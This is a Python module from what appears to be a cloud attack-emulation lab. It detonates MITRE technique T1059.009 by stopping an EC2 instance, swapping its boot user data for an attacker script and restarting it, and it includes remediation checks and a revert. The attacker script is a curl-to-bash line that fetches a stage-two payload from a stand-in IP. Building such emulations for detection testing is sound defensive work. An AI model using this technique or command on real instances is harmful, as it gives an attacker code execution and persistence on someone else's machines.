"""ec2-user-data: run commands at boot by rewriting an instance's user data (T1059.009)."""

from __future__ import annotations

import base64
from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.target_instance import WORKLOAD_USER_DATA, InstanceActivityTechnique
from lab.emulator.endpoints import Endpoints

ATTACKER_USER_DATA = "#!/bin/bash\ncurl -s http://203.0.113.66/stage2 | bash\n"


def user_data(endpoints: Endpoints, instance_id: str, actor: str = "observer") -> str:
    value = (
        endpoints.client("ec2", actor)
        .describe_instance_attribute(InstanceId=instance_id, Attribute="userData")["UserData"]
        .get("Value", "")
    )
    return base64.b64decode(value).decode() if value else ""


class Ec2UserData(InstanceActivityTechnique):
    folder = Path(__file__).parent

    def _set(self, endpoints: Endpoints, instance_id: str, text: str, actor: str) -> None:
        ec2 = endpoints.client("ec2", actor)
        ec2.stop_instances(InstanceIds=[instance_id])
        # The API takes user data base64-encoded, and the SDK encodes the blob once more (EC2 API
        # Reference, ModifyInstanceAttribute: "must be base64-encoded").
        ec2.modify_instance_attribute(
            InstanceId=instance_id, UserData={"Value": base64.b64encode(text.encode())}
        )
        ec2.start_instances(InstanceIds=[instance_id])

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        self._set(endpoints, prerequisites["instance_id"], ATTACKER_USER_DATA, "attacker")

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The user data is the workload's again."""
        return user_data(endpoints, prerequisites["instance_id"]) != ATTACKER_USER_DATA

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if not self.is_remediated(endpoints, prerequisites):
            self._set(endpoints, prerequisites["instance_id"], WORKLOAD_USER_DATA, "harness")


TECHNIQUE = Ec2UserData
